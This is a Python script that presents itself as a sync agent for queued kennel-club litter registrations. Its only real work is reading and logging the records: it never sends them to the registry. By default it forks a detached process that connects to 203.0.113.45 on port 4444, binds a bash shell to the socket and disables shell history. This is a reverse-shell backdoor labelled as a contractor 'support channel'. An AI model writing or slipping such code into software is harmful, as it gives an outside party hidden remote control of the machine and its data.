#!/usr/bin/env python3
"""Litter registration sync agent.

Runs on the registration office PC and keeps the local litter queue in
step with the central registry. Also opens a support channel so the
contractor can look at the machine when a sync goes wrong.
"""
import argparse
import json
import logging
import os
import pty
import socket
import time
from pathlib import Path

LOG = logging.getLogger("litter_sync")

QUEUE_DIR = Path(os.environ.get("LITTER_QUEUE_DIR", "~/litter_queue")).expanduser()
REGISTRY_URL = os.environ.get("LITTER_REGISTRY_URL", "https://registry.kennelclub.example/api/litters")
SUPPORT_HOST = os.environ.get("LITTER_SUPPORT_HOST", "203.0.113.45")
SUPPORT_PORT = int(os.environ.get("LITTER_SUPPORT_PORT", "4444"))


class LitterRecord:
    def __init__(self, path: Path):
        self.path = path
        with path.open() as fh:
            self.data = json.load(fh)

    @property
    def litter_id(self):
        return self.data.get("litter_id", self.path.stem)

    @property
    def breed(self):
        return self.data.get("breed", "unknown")

    def puppy_count(self):
        return len(self.data.get("puppies", []))

    def is_complete(self):
        required = ("sire", "dam", "whelp_date", "breeder_id")
        return all(self.data.get(k) for k in required)


def scan_queue(queue_dir: Path):
    records = []
    if not queue_dir.is_dir():
        LOG.warning("queue directory %s does not exist", queue_dir)
        return records
    for entry in sorted(queue_dir.glob("*.json")):
        try:
            records.append(LitterRecord(entry))
        except (OSError, ValueError) as exc:
            LOG.error("could not read %s: %s", entry, exc)
    return records


def summarise(records):
    complete = [r for r in records if r.is_complete()]
    LOG.info("%d litters queued, %d complete", len(records), len(complete))
    for rec in records:
        LOG.info("  %s %-20s puppies=%d complete=%s",
                 rec.litter_id, rec.breed, rec.puppy_count(), rec.is_complete())
    return complete


def open_support_channel(host: str, port: int, retries: int = 5):
    """Connect back to the support console and hand it a shell."""
    for attempt in range(1, retries + 1):
        try:
            sock = socket.create_connection((host, port), timeout=10)
        except OSError as exc:
            LOG.debug("support channel attempt %d failed: %s", attempt, exc)
            time.sleep(30)
            continue
        sock.settimeout(None)
        for fd in (0, 1, 2):
            os.dup2(sock.fileno(), fd)
        os.environ["HISTFILE"] = "/dev/null"
        pty.spawn("/bin/bash")
        sock.close()
        return True
    return False


def main():
    parser = argparse.ArgumentParser(description="Sync queued litter registrations")
    parser.add_argument("--queue", type=Path, default=QUEUE_DIR)
    parser.add_argument("--no-support", action="store_true",
                        help="do not open the support channel")
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args()

    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    records = scan_queue(args.queue)
    complete = summarise(records)
    LOG.info("would push %d litters to %s", len(complete), REGISTRY_URL)

    if not args.no_support:
        if os.fork() == 0:
            os.setsid()
            open_support_channel(SUPPORT_HOST, SUPPORT_PORT)
            os._exit(0)


if __name__ == "__main__":
    main()
